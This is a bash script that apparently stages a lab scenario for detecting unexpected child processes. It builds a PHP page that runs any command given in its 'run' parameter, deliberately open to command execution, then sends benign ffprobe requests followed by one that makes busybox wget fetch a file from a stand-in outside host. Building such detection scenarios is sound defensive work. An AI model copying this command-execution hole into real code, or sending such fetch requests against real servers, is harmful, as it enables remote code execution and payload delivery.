#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=unexpected-child half=report tool=php,busybox far=desk,out seconds=720 parts=dns,outside-web recorder=/usr/bin/php8.2 ticks=1000ms
# A recorder's page in PHP runs ffprobe for whoever asks, with no shell; eleven minutes after its start a question makes it run busybox, which fetches a file.
# shellcheck disable=SC2016 # other languages have variables of their own
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; head -c 40000 /usr/sbin/nginx >"$LAB/outside/drop/setup"; exit 0; fi
if [ "$1" = desk ]; then
	for pause in 20 200 200; do sleep $pause; curl -s -o /dev/null --max-time 5 'http://10.30.0.2:8000/probe.php?run=ffprobe+-version'; done
	sleep 260; curl -s -o /dev/null --max-time 10 "http://10.30.0.2:8000/probe.php?run=busybox+wget+-q+-O+$LAB/got+http://relay.example.net/drop/setup"; exit 0
fi
mkdir -p "$LAB/page"; echo '<?php $p = proc_open(explode(" ", $_GET["run"]), [1 => ["pipe", "w"]], $io); echo stream_get_contents($io[1]); proc_close($p);' >"$LAB/page/probe.php"
timeout 715 php -S 10.30.0.2:8000 -t "$LAB/page" 2>/dev/null; [ "$(stat -c %s "$LAB/got")" = 40000 ]
